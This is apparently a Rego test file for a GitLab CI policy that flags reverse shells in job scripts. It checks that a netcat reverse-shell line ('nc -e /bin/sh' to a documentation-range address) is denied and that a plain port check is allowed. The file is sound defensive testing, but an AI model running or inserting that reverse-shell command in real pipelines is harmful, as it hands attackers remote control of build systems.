package policies.gitlab_ci.no_reverse_shells_test

import data.policies.gitlab_ci.no_reverse_shells

_input(text) := {"subject": {
	"address": "job a",
	"config": {},
	"views": {"scripts": [{"path": ["script", 0], "text": text}]},
}}

test_deny_netcat if {
	findings := no_reverse_shells.deny with input as _input("nc -e /bin/sh 192.0.2.7 443")
	findings == {{
		"message": "job a connects a shell or its data to another host",
		"path": ["script", 0, "nc -e /bin/sh"],
	}}
}

test_allow_port_check if {
	findings := no_reverse_shells.deny with input as _input("nc -z database 5432")
	findings == set()
}

test_applies_to_scripts if {
	no_reverse_shells.applies with input as _input("make")
	not no_reverse_shells.applies with input as {"subject": {"views": {"scripts": []}}}
}
